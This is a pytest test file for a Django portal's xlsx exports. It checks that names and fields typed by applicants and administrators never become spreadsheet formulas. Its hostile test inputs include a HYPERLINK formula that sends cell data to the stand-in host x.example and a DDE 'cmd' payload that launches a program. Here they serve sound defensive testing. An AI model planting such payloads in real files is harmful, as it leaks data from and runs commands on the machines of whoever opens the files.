"""Issue 20, item 10, and the general guard on exports: every xlsx the portal writes goes through
mocua/xlsx.py, so no text typed by anyone (an applicant at the counter, an administrator naming an
agency, a department, a field, a procedure or an officer) becomes a formula; numbers stay numbers.

Each export is downloaded as its user would, and every cell of every sheet is read twice: through
openpyxl (no cell of type formula) and in the raw sheet XML (no <f> element at all)."""

import io
import re
import zipfile

import openpyxl
import pytest
from django.utils import timezone

from dossiers import services
from mocua.accounts.models import Department, Role
from mocua.xlsx import Table, put, simple_header, workbook

from ..dossiers.conftest import make_intake
from ..factories import UserFactory

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"y")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _formulas(content: bytes) -> list[str]:
    """Every formula in the workbook, by openpyxl and by the raw XML."""
    found = []
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        found += [f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", archive.read(name)):
                found.append(name)
    return found


def _texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture
def hostile_world(agency, variant, receptionist, specialist, leader):
    """Names typed by an administrator and by the counter, each a would-be formula."""
    agency.name = HYPERLINK
    agency.save(update_fields=["name"])
    department = Department.objects.create(agency=agency, name="+1+1 phòng")
    specialist.full_name, specialist.department = "-2+3 Chuyên viên", department
    specialist.save(update_fields=["full_name", "department"])
    leader.full_name = "@SUM(1,1)"
    leader.save(update_fields=["full_name"])
    procedure = variant.procedure
    procedure.name = "=1+1 Đăng ký khai sinh"
    procedure.save(update_fields=["name"])
    procedure.field.name = "=2+2 Hộ tịch"
    procedure.field.save(update_fields=["name"])
    head = UserFactory(agency=agency, role=Role.HEAD, username="truongphong.x", full_name="=3+3", department=department)
    dossiers = []
    for name in (HYPERLINK, "+84 Nguyễn Văn An", "-Lê Thị Bé", "@An"):
        intake = make_intake(variant, applicant=services.Applicant(name=name, address="=A1 Lê Lợi"))
        dossier = services.dossier_receive(actor=receptionist, intake=intake)
        dossier = services.dossier_hand_over(dossier=dossier, actor=receptionist, to_user=specialist)
        dossiers.append(dossier)
    done = services.dossier_approve(dossier=dossiers[0], actor=leader, result_summary="=SUM(A1:A9)")
    services.dossier_return(dossier=done, actor=receptionist, collected_by="=Người nhận")
    services.dossier_stop(dossier=dossiers[1], actor=leader, reason="=Lý do dừng")
    return {"agency": agency, "specialist": specialist, "leader": leader, "head": head, "dossiers": dossiers}


def _exports(world) -> list[tuple[object, str, dict]]:
    """(user, url, query) of every xlsx download the portal offers."""
    today = timezone.localdate()
    day = {"start": today.isoformat(), "end": today.isoformat()}
    leader, officer = world["leader"], world["specialist"]
    pages = ["/lanh-dao/", "/lanh-dao/can-bo/", f"/lanh-dao/can-bo/{officer.pk}/", "/lanh-dao/theo/phong-ban/",
             "/lanh-dao/theo/don-vi/", "/lanh-dao/theo/linh-vuc/", "/lanh-dao/theo/thu-tuc/", "/lanh-dao/chi-so-766/"]
    found = [(world["dossiers"][0].created_by, "/can-bo/so-theo-doi/", {**day, "format": "xlsx"})]
    found += [(leader, url, {"format": "xlsx"}) for url in pages]
    found += [(leader, "/lanh-dao/bieu-06/", {"format": "xlsx", "by": by}) for by in ("field", "unit")]
    found += [(world["head"], "/lanh-dao/", {"format": "xlsx"})]
    return found


def test_no_export_holds_a_formula_whoever_typed_the_names(client, hostile_world):
    seen = set()
    for user, url, query in _exports(hostile_world):
        client.force_login(user)
        response = client.get(url, query)
        assert response.status_code == 200, (url, query)
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), (url, query)
        assert _formulas(response.content) == [], (url, query)
        seen |= _texts(response.content)
    # The hostile names are there, as the text they are.
    assert {HYPERLINK, "+84 Nguyễn Văn An", "-Lê Thị Bé", "@An", "=1+1 Đăng ký khai sinh", "=2+2 Hộ tịch",
            "-2+3 Chuyên viên"} <= seen


def test_the_writer_keeps_text_as_text_and_numbers_as_numbers():
    table = Table("=Sheet[1]:*?/\\", "=TITLE", ["+line"], simple_header("=A", "B"),
                  [[value, 1] for value in HOSTILE] + [[-5, 2.5], ["x\x01\x08y", None]], total=["=total", 3])
    content = workbook([table])
    assert _formulas(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.title == "=Sheet 1" and "[" not in sheet.title
    values = [row for row in sheet.iter_rows(min_row=5, values_only=True)]
    # (a carriage return comes back as one or, depending on the XML reader openpyxl finds, a line feed)
    assert [row[0].replace("\r", "\n") for row in values[:len(HOSTILE)]] == [value.replace("\r", "\n")
                                                                           for value in HOSTILE]
    assert values[len(HOSTILE)] == (-5, 2.5) and isinstance(values[len(HOSTILE)][0], int)
    assert values[len(HOSTILE) + 1][0] == "x\ufffd\ufffdy"
    quoted = [sheet.cell(row=5 + n, column=1).quotePrefix for n in range(len(HOSTILE))]
    assert all(quoted)


def test_put_writes_plain_text_without_the_quote_prefix():
    book = openpyxl.Workbook()
    cell = put(book.active, 1, 1, "Nguyễn Văn An")
    assert cell.data_type == "s" and not cell.quotePrefix
